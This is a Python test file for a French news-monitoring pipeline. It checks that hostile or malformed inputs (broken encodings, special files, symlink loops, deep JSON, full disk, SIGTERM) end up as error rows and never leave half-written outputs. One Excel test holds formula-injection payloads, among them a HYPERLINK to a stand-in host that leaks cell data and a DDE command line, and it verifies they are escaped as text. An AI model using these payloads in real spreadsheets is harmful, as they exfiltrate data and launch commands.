"""Hostile but ordinary inputs and process faults (issue 19): every input is a row with a reason,
every string is writable, cost is bounded, and a fault never leaves half-written outputs.

File-system cases are built in a temporary folder.
"""

from __future__ import annotations

import csv
import errno
import fcntl
import hashlib
import json
import os
import signal
import socket
import string
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pipeline.cli import main
from pipeline.ingest import paragraphs, read as ingest
from pipeline.ingest.read import document_from_record, read_corpus
from pipeline.output import tables
from pipeline.output.report import page_names, write_report
from pipeline.output.tables import COLUMNS, LOCK_NAME, TableWriter, read_table, row_of
from pipeline.records import Document, Mention, Paragraph

ROOT = Path(__file__).resolve().parent.parent
ARCOM = "L’Arcom a infligé une amende à X, a déclaré jeudi son président, Martin Ajdari."
BERCY = "Le ministère de l’Économie a annoncé jeudi un plan pour la souveraineté numérique."


@pytest.fixture
def shared_model(nlp, monkeypatch):
    """`veille run` through main() reuses the session's model instead of loading its own."""
    monkeypatch.setattr("pipeline.nlp.build_nlp", lambda rules, model=None: nlp)


def rows(corpus: Path, **options) -> dict[str, tuple[str, str]]:
    """doc_id -> (status, error) of a corpus."""
    return {d.doc_id: (d.status, d.error) for d in read_corpus(corpus, **options)}


def documents_csv(output: Path) -> dict[str, dict]:
    return {row["doc_id"]: row for row in read_table(output, "documents").to_dict("records")}


def file_bytes(folder: Path) -> dict[str, bytes]:
    """Every file under a folder (the lock file aside), by relative path."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and p.name != LOCK_NAME}


def leftovers(folder: Path) -> list[str]:
    """Temporary files and folders a run may leave: there must be none."""
    return sorted(p.name for p in folder.rglob(".*") if p.name != LOCK_NAME)


def one_line_error(capsys) -> str:
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.count("\n") == 1, captured.err
    return captured.err.strip()


# --- 1. every string written is writable ------------------------------------------------------

def test_lone_surrogate_id_and_non_utf8_file_name_do_not_stop_the_run(shared_model, tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "lot.jsonl").write_text('{"id": "\\ud800", "title": "Titre \\udc80", "text": "%s"}\n' % ARCOM,
                                      encoding="utf-8")
    with open(os.fsencode(corpus) + b"/caf\xe9.txt", "wb") as handle:
        handle.write(BERCY.encode("utf-8"))
    output = tmp_path / "out"
    assert main(["run", str(corpus), "-o", str(output), "--quiet", "--excel", "--html"]) == 0
    documents = documents_csv(output)
    assert set(documents) == {"caf\\xe9", "lot#\ufffd"}
    record, name = documents["lot#\ufffd"], documents["caf\\xe9"]
    assert record["status"] == "ok" and record["title"] == "Titre \ufffd"
    assert "in the id" in record["warning"] and "in the title" in record["warning"]
    assert name["status"] == "ok" and name["source"] == "caf\\xe9.txt" and "not UTF-8" in name["warning"]
    assert (output / "excel" / "documents.csv").read_text(encoding="utf-8-sig").count("\ufffd") == 3  # id, title, record_id
    assert len(list((output / "report").glob("*.html"))) == 3


def test_non_utf8_file_names_are_escaped_unique_and_stable(tmp_path):
    folder = os.fsencode(tmp_path)
    for name in (b"caf\xe9.txt", b"caf\xe8.txt", b"sous\xff/a.txt"):
        os.makedirs(os.path.dirname(folder + b"/" + name), exist_ok=True)
        with open(folder + b"/" + name, "wb") as handle:
            handle.write(ARCOM.encode("utf-8"))
    first = [(d.doc_id, d.source) for d in read_corpus(tmp_path)]
    assert first == [("caf\\xe8", "caf\\xe8.txt"), ("caf\\xe9", "caf\\xe9.txt"), ("sous\\xff/a", "sous\\xff/a.txt")]
    assert [(d.doc_id, d.source) for d in read_corpus(tmp_path)] == first


def test_table_writer_replaces_any_lone_surrogate_that_reaches_it(tmp_path):
    assert row_of(Document("a\ud800", "b\udce9.txt", error="x\udfff"), ["doc_id", "source", "error"]) == [
        "a\ufffd", "b\ufffd.txt", "x\ufffd"]
    with TableWriter(tmp_path) as writer:
        writer.write("documents", [Document("a\ud800", "a.txt")])
    assert documents_csv(tmp_path).keys() == {"a\ufffd"}


# --- 2. only regular files are read; links are followed with care -----------------------------

def test_fifo_socket_and_device_are_error_rows_and_never_opened(tmp_path, monkeypatch):
    os.mkfifo(tmp_path / "tube.txt")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(tmp_path / "prise.txt"))
    (tmp_path / "zero.txt").symlink_to("/dev/zero")
    (tmp_path / "a.txt").write_text(ARCOM, encoding="utf-8")
    opened = []
    read_bytes = Path.read_bytes

    def guarded(path):
        opened.append(path.name)
        if path.name != "a.txt":  # opening the FIFO would block the test forever
            raise AssertionError(f"{path} was opened")
        return read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", guarded)
    try:
        found = rows(tmp_path, follow_outside_links=True)
    finally:
        server.close()
    assert found == {
        "a": ("ok", ""),
        "prise": ("error", "not a regular file but a socket, not read"),
        "tube": ("error", "not a regular file but a FIFO (named pipe), not read"),
        "zero": ("error", "not a regular file but a character device, not read"),
    }
    assert opened == ["a.txt"]
    assert rows(tmp_path)["zero"][0] == "error"  # without the option too, unopened


def test_symlinked_folder_inside_the_corpus_is_read_once_and_a_loop_ends(tmp_path):
    (tmp_path / "2023").mkdir()
    (tmp_path / "2023" / "a.txt").write_text(ARCOM, encoding="utf-8")
    (tmp_path / "2023" / "boucle").symlink_to("..")  # a loop back to the corpus
    (tmp_path / "alias").symlink_to("2023")  # the same folder under another name
    (tmp_path / "liens").mkdir()
    (tmp_path / "liens" / "annee").symlink_to("../2023")
    found = rows(tmp_path)
    assert found == {
        "2023/a": ("ok", ""),
        "2023/boucle": ("duplicate", "symbolic link to a folder already read (.)"),
        "alias": ("duplicate", "symbolic link to a folder already read (2023)"),
        "liens/annee": ("duplicate", "symbolic link to a folder already read (2023)"),
    }


def test_symlinked_folder_is_followed_when_it_is_the_only_way_in(tmp_path):
    corpus, hidden = tmp_path / "corpus", tmp_path / "corpus" / ".archives" / "2023"
    hidden.mkdir(parents=True)
    (hidden / "a.txt").write_text(ARCOM, encoding="utf-8")
    (corpus / "2023").symlink_to(".archives/2023")
    assert rows(corpus) == {"2023/a": ("ok", "")}


def test_links_out_of_the_corpus_are_rows_unless_asked_to_follow(tmp_path):
    corpus, data = tmp_path / "corpus", tmp_path / "data"
    (data / "2023").mkdir(parents=True)
    (data / "2023" / "a.txt").write_text(ARCOM, encoding="utf-8")
    (data / "passwd.txt").write_text(BERCY, encoding="utf-8")
    corpus.mkdir()
    (corpus / "2023").symlink_to(data / "2023")
    (corpus / "passwd.txt").symlink_to(data / "passwd.txt")
    (corpus / "perdu.txt").symlink_to(tmp_path / "absent.txt")
    assert rows(corpus) == {
        "2023": ("error", "symbolic link to a folder outside the corpus, not read (--follow-outside-links reads it)"),
        "passwd": ("error", "symbolic link to a file outside the corpus, not read (--follow-outside-links reads it)"),
        "perdu": ("error", "broken symbolic link"),
    }
    assert rows(corpus, follow_outside_links=True) == {
        "2023/a": ("ok", ""), "passwd": ("ok", ""), "perdu": ("error", "broken symbolic link")}


def test_follow_outside_links_option_of_veille_run(shared_model, tmp_path):
    data, corpus = tmp_path / "data", tmp_path / "corpus"
    data.mkdir()
    corpus.mkdir()
    (data / "a.txt").write_text(ARCOM, encoding="utf-8")
    (corpus / "a.txt").symlink_to(data / "a.txt")
    assert main(["run", str(corpus), "-o", str(tmp_path / "out"), "--quiet"]) == 0
    assert documents_csv(tmp_path / "out")["a"]["status"] == "error"
    assert main(["run", str(corpus), "-o", str(tmp_path / "out"), "--quiet", "--follow-outside-links"]) == 0
    assert documents_csv(tmp_path / "out")["a"]["status"] == "ok"
    assert ingest.FOLLOW_OUTSIDE_LINKS is False  # the option lasts for its run only


# --- 3. nothing dropped silently ----------------------------------------------------------------

@pytest.mark.parametrize("name, data, reason", [
    ("a.json", b"[]", "no records"),
    ("a.json", b'{"records": []}', "no records"),
    ("a.json", b'{"articles": [], "total": 0}', "no records"),
    ("a.csv", b"id,title,text\r\n", "no records"),
    ("a.csv", b"id,title,text\n\n,,\n\n", "no records"),
    ("a.csv", b"\xef\xbb\xbf", "only a byte-order mark"),
    ("a.jsonl", b"\xef\xbb\xbf\n\n\r\n", "only whitespace"),
], ids=["empty-array", "empty-records", "empty-articles", "csv-header", "csv-header-blank-lines",
        "csv-bom-only", "jsonl-bom-blank-lines"])
def test_file_without_records_is_one_empty_row(tmp_path, name, data, reason):
    (tmp_path / name).write_bytes(data)
    (document,) = read_corpus(tmp_path)
    assert (document.doc_id, document.source, document.status, document.error) == ("a", name, "empty", reason)


def test_too_deep_jsonl_line_costs_that_line_only(tmp_path):
    deep = "[" * 100_000 + "]" * 100_000
    lines = [json.dumps({"text": ARCOM}, ensure_ascii=False), deep, "{not json",
             json.dumps({"text": BERCY}, ensure_ascii=False)]
    (tmp_path / "flux.jsonl").write_text("\n".join(lines), encoding="utf-8")
    assert rows(tmp_path) == {
        "flux#1": ("ok", ""), "flux#2": ("error", "JSON on line 2 is nested too deeply to read"),
        "flux#3": ("error", "malformed JSON on line 3 (Expecting property name enclosed in double quotes)"),
        "flux#4": ("ok", "")}


def test_json_strings_with_raw_tabs_and_control_characters_are_read(tmp_path):
    text = f"{ARCOM}\t{BERCY}\x01 {ARCOM}\x1f"
    (tmp_path / "a.jsonl").write_text('{"text": "%s"}\n' % text, encoding="utf-8")
    (tmp_path / "b.json").write_text('[{"text": "%s"}]' % text, encoding="utf-8")
    assert [(d.status, d.text) for d in read_corpus(tmp_path)] == [("ok", text), ("ok", text)]


@pytest.mark.parametrize("separator", ["\x0b", "\x0c"])
def test_text_with_soft_line_breaks_is_text_not_binary(tmp_path, separator):
    text = separator.join([ARCOM, BERCY] * 20)
    (tmp_path / "export.txt").write_text(text, encoding="utf-8")
    (document,) = read_corpus(tmp_path)
    assert (document.status, document.text) == ("ok", text)
    assert len(paragraphs.split(document).paragraphs) == 40


def test_plain_text_saved_as_html_is_read_as_its_text(tmp_path):
    text = f"{ARCOM}\n{BERCY}"
    (tmp_path / "page.html").write_text(text, encoding="utf-8")
    (document,) = read_corpus(tmp_path)
    assert (document.status, document.text) == ("ok", text)
    assert document.warning == "no HTML markup: read as plain text"


def test_page_without_an_article_falls_back_to_the_page_text(monkeypatch):
    import trafilatura

    from pipeline.ingest.formats.html_page import page_record

    monkeypatch.setattr(trafilatura, "bare_extraction", lambda *args, **kwargs: None)
    record = page_record("<html><head><style>p{}</style></head><body><ul><li>Un &amp; deux.</li>"
                         "<li>Trois.</li></ul><script>alert(1)</script></body></html>")
    assert record["text"] == "Un & deux.\n\nTrois."
    assert record["_warning"] == "no article found in the page: its whole text is used"


# --- 4. one definition of a line break ----------------------------------------------------------

@pytest.mark.parametrize("brk", ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85",
                                 "\u2028", "\u2029"])
def test_every_line_break_splits_paragraphs_and_headings_with_exact_offsets(brk):
    text = f" date 2024-03{brk}Un titre court{brk}{ARCOM}{brk}{BERCY}"
    document = document_from_record("a", "a.txt", "utf-8", "", {"text": text})
    article = paragraphs.split(document)
    assert document.published == "2024-03"
    assert [(p.kind, p.text) for p in article.paragraphs] == [
        ("heading", "Un titre court"), ("body", ARCOM), ("body", BERCY)]
    assert all(text[p.start:p.end] == p.text for p in article.paragraphs)
    blank = f"{ARCOM}{brk}{brk}Suite{brk}du même paragraphe."
    split = paragraphs.split(document_from_record("b", "b.txt", "utf-8", "", {"text": blank})).paragraphs
    assert [p.text for p in split] == [ARCOM, f"Suite{brk}du même paragraphe."]
    assert not paragraphs.is_heading(f"Un titre{brk}sur deux lignes")


def test_crlf_is_one_line_break_not_a_blank_line():
    text = f"{ARCOM}\r\n{BERCY}\r\n\r\nFin."
    document = document_from_record("a", "a.txt", "utf-8", "", {"text": text})
    assert [p.text for p in paragraphs.split(document).paragraphs] == [f"{ARCOM}\r\n{BERCY}", "Fin."]


# --- 5. bounded cost on runs of punctuation -----------------------------------------------------

def test_long_runs_without_letters_never_reach_the_tokenizer_and_offsets_hold():
    rule = "=" * 20_000
    text = f"« {ARCOM} » {rule} {BERCY}\n\n{'-' * 150} court.\n\n{'*_ ' * 300}"
    document = document_from_record("a", "a.txt", "utf-8", "", {"text": text})
    pieces = paragraphs.segments(paragraphs.split(document), max_chars=20000)
    assert [piece.text for piece in pieces] == [
        f"« {ARCOM} » {'=' * 6}", f"{'=' * 9} {BERCY}", f"{'-' * 150} court.", "*_ *_ *_ *", "_ *_ *_ *_"]
    assert all(text[p.start:p.start + len(p.text)] == p.text for p in pieces)


def test_zero_segment_limit_does_not_loop():
    document = document_from_record("a", "a.txt", "utf-8", "", {"text": ARCOM})
    pieces = paragraphs.segments(paragraphs.split(document), max_chars=0)
    assert "".join(piece.text for piece in pieces) == ARCOM.replace(" ", "")


def punctuation_file(size: int = 260_000) -> str:
    """What the issue measured: a file of punctuation, runs of one mark and mixed marks, lines."""
    marks = string.punctuation + "«»…—–•€©"
    lines, total, number = [], 0, 0
    while total < size:
        mark = marks[number % len(marks)]
        line = mark * 3000 if number % 3 == 0 else "".join(marks[(number * 7 + i * i) % len(marks)] for i in range(3000))
        lines.append(line)
        total += len(line) + 1
        number += 1
    return "\n".join(lines)[:size]


def test_benchmark_punctuation_file_and_run_of_equals_are_processed_correctly(pipeline_extractor):
    """Not timed here (see the issue's closing note for time and memory); only correctness."""
    for text in (punctuation_file(), f"{ARCOM}\n\n{'=' * 20_000}\n\n{BERCY}", f"{ARCOM} {'=' * 20_000} {BERCY}"):
        found = pipeline_extractor.extract(text, published="2024-03-01")
        assert found.document.status == "ok"
        for table in ("paragraphs", "mentions", "quotes", "claims", "dates"):
            assert all(text[row.start:row.end] == row.text for row in getattr(found, table))
    assert any(m.text == "Arcom" or "Arcom" in m.text for m in found.mentions)


# --- 6. faults: SIGTERM, stale files, lock, full disk -------------------------------------------

@pytest.fixture
def previous_run(shared_model, tmp_path):
    """A corpus of two articles and the outputs (tables, Excel copy, report) of a first run."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(ARCOM, encoding="utf-8")
    (corpus / "b.txt").write_text(BERCY, encoding="utf-8")
    output = tmp_path / "out"
    assert main(["run", str(corpus), "-o", str(output), "--quiet", "--excel", "--html"]) == 0
    (corpus / "c.txt").write_text(ARCOM + " " + BERCY, encoding="utf-8")  # the next run differs
    return corpus, output


def test_sigterm_during_a_run_exits_143_and_leaves_previous_outputs(previous_run, capsys, monkeypatch):
    corpus, output = previous_run
    before = file_bytes(output)
    write = TableWriter.write

    def terminated_midway(self, table, records):
        if table == "quotes" and self.counts["documents"] == 2:
            os.kill(os.getpid(), signal.SIGTERM)
        return write(self, table, records)

    monkeypatch.setattr(TableWriter, "write", terminated_midway)
    # --full: every document's rows through TableWriter.write (incremental, a and b would be copied)
    assert main(["run", str(corpus), "-o", str(output), "--quiet", "--excel", "--html", "--full"]) == 143
    assert one_line_error(capsys) == f"veille: error: terminated (SIGTERM); the tables in {output} are left as they were"
    assert file_bytes(output) == before and leftovers(output) == []
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL


@pytest.mark.slow
def test_sigterm_to_a_veille_process_removes_its_temporary_files(tmp_path):
    corpus, output = tmp_path / "corpus", tmp_path / "out"
    corpus.mkdir()
    output.mkdir()
    (corpus / "a.txt").write_text(ARCOM, encoding="utf-8")
    (output / "documents.csv").write_text("previous\r\n", encoding="utf-8")
    process = subprocess.Popen([sys.executable, "-m", "pipeline", "run", str(corpus), "-o", str(output), "--quiet"],
                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not list(output.glob(".*.tmp")) and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.01)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=120)
    assert process.returncode == 143, err
    assert "terminated (SIGTERM)" in err
    assert leftovers(output) == [] and (output / "documents.csv").read_bytes() == b"previous\r\n"


def test_stale_temporary_files_of_a_killed_run_are_removed_by_the_next(previous_run):
    corpus, output = previous_run
    stale = [output / ".documents.csv.k1ll3d.tmp", output / "excel" / ".quotes.csv.k1ll3d.tmp",
             output / ".excel.k1ll3d.tmp", output / ".report.k1ll3d.old.tmp"]
    for path in stale[:2]:
        path.write_text("half", encoding="utf-8")
    for path in stale[2:]:
        path.mkdir()
        (path / "index.html").write_text("half", encoding="utf-8")
    (output / "notes.txt").write_text("mine", encoding="utf-8")
    assert main(["run", str(corpus), "-o", str(output), "--quiet", "--excel", "--html"]) == 0
    assert leftovers(output) == [] and (output / "notes.txt").exists()


def test_second_run_into_a_locked_output_folder_fails_fast_with_exit_2(previous_run, capsys, monkeypatch):
    corpus, output = previous_run
    before = file_bytes(output)
    monkeypatch.setattr("pipeline.run.run", lambda *args, **kwargs: pytest.fail("the run started"))
    with open(output / LOCK_NAME, "a") as held:  # another process's run, as flock sees it
        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
        assert main(["run", str(corpus), "-o", str(output), "--quiet"]) == 2
        assert main(["report", str(output), "--corpus", str(corpus)]) == 2
    message = capsys.readouterr().err.splitlines()
    assert message[0] == (f"veille: error: another veille run is writing to {output} ({LOCK_NAME} is locked); "
                          "wait for it to end or choose another output folder")
    assert file_bytes(output) == before


def enospc_after(function, calls: int):
    """`function`, failing like a full disk from its `calls`-th call on."""
    count = []

    def full(*args, **kwargs):
        count.append(1)
        if len(count) >= calls:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "out/.quotes.csv.x.tmp")
        return function(*args, **kwargs)

    return full


@pytest.mark.parametrize("where", ["tables", "excel", "report"])
def test_full_disk_is_a_one_line_error_exit_2_and_previous_outputs_intact(previous_run, capsys, monkeypatch, where):
    import pipeline.output.report as report

    corpus, output = previous_run
    before = file_bytes(output)
    module, name, calls = {"tables": (tables, "row_of", 5), "excel": (tables, "excel_cell", 40),
                           "report": (report, "_article_page", 2)}[where]
    monkeypatch.setattr(module, name, enospc_after(getattr(module, name), calls))
    assert main(["run", str(corpus), "-o", str(output), "--quiet", "--excel", "--html"]) == 2
    message = one_line_error(capsys)
    assert message.startswith("veille: error: No space left on device: out/.quotes.csv.x.tmp; ")
    after = file_bytes(output)
    assert leftovers(output) == []
    if where == "report":  # the tables and the Excel copy were complete; the report is the old one
        assert message.endswith(f"the tables in {output} were written; the previous report is left as it was")
        assert {k: v for k, v in after.items() if k.startswith("report/")} == {
            k: v for k, v in before.items() if k.startswith("report/")}
        assert set(documents_csv(output)) == {"a", "b", "c"}
    else:
        assert message.endswith(f"the tables in {output} are left as they were")
        assert after == before


# --- 7. the Excel copy and the report -----------------------------------------------------------

def test_excel_copy_writes_formula_like_cells_as_text_and_the_csv_as_is(tmp_path):
    cells = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"clic")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
             "+33 1 23", "-2 %", "\tTab", "\rCR", "Normal", ""]
    with TableWriter(tmp_path, excel=True) as writer:
        writer.write("documents", [Document(f"d{i}", "x.txt", title=cell) for i, cell in enumerate(cells)])
    with open(tmp_path / "documents.csv", encoding="utf-8", newline="") as handle:
        assert [row[2] for row in csv.reader(handle)][1:] == cells
    with open(tmp_path / "excel" / "documents.csv", encoding="utf-8-sig", newline="") as handle:
        excel = [row[2] for row in csv.reader(handle, delimiter=";")][1:]
    assert excel == ["'" + cell for cell in cells[:7]] + ["Normal", ""]


def test_report_page_names_are_unique_bounded_and_never_the_index():
    ids = ["a b", "a_b", "café", "caf_", "index", "index.html", "x" * 300, "/".join(["dossier"] * 45),
           "..", "", "\ufffd", "A b"]
    names = page_names(ids)
    assert len(set(names.values())) == len(ids) and "index.html" not in names.values()
    assert all(len(name.encode()) <= 100 and name.endswith(".html") and not name.startswith(".")
               for name in names.values())
    assert page_names(ids) == names  # stable


def test_report_on_long_and_clashing_ids_writes_one_page_each(tmp_path):
    ids = ["a b", "a_b", "café", "caf_", "index", "x" * 300, "/".join(["dossier"] * 45)]
    with TableWriter(tmp_path) as writer:
        writer.write("documents", [Document(doc_id, doc_id + ".txt", title=f"Titre {n}") for n, doc_id in enumerate(ids)])
    index = write_report(tmp_path, tmp_path / "absent")
    pages = {p.name: p.read_text(encoding="utf-8") for p in index.parent.glob("*.html") if p.name != "index.html"}
    assert len(pages) == len(ids)
    assert sorted(page.split("<h1>")[1].split("</h1>")[0] for page in pages.values()) == sorted(
        f"Titre {n}" for n in range(len(ids)))


def test_report_marks_an_article_changed_since_the_run_and_keeps_highlights_right(tmp_path):
    corpus, output = tmp_path / "corpus", tmp_path / "out"
    corpus.mkdir()
    text = f"{BERCY}\n\n{ARCOM}"
    (corpus / "a.txt").write_text(text, encoding="utf-8")
    start = text.index("Arcom")
    with TableWriter(output) as writer:
        writer.write("documents", [Document("a", "a.txt", sha256=hashlib.sha256(text.encode()).hexdigest())])
        writer.write("paragraphs", [Paragraph("a", 0, 0, len(BERCY), BERCY),
                                    Paragraph("a", 1, len(BERCY) + 2, len(text), ARCOM)])
        writer.write("mentions", [Mention("a", 1, start, start + 5, "Arcom", "ORG")])
    page = output / "report" / page_names(["a"])["a"]
    write_report(output, corpus)
    assert 'class="changed"' not in page.read_text(encoding="utf-8")
    (corpus / "a.txt").write_text("Nouveau début. " + text, encoding="utf-8")
    write_report(output, corpus)
    html = page.read_text(encoding="utf-8")
    assert 'class="changed"' in html and "has changed since the run" in html
    assert '">Arcom</span>' in html  # highlighted on the text the run read, not at a shifted place
